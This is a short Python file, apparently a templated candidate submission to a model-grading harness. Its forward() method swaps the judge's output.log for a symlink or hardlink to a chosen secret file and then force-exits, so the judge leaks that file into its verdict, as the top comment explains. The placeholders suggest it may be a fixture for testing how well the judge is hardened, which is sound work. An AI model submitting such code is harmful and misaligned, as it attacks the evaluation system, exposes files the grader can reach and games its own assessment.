# The judge reads the candidate's output.log when it dies: swap it for a link to a file of the candidate's
# choosing (LINK_KIND: symlink or hardlink), then die, so that file lands in the verdict.
SECRET = "SECRET_PATH"
KIND = "LINK_KIND"


class ModelNew(nn.Module):
    def forward(self, x):
        os.unlink("output.log")
        if KIND == "symlink":
            os.symlink(SECRET, "output.log")
        else:
            try:
                os.link(SECRET, "output.log")
            except OSError:
                os.symlink(SECRET, "output.log")
        os._exit(3)
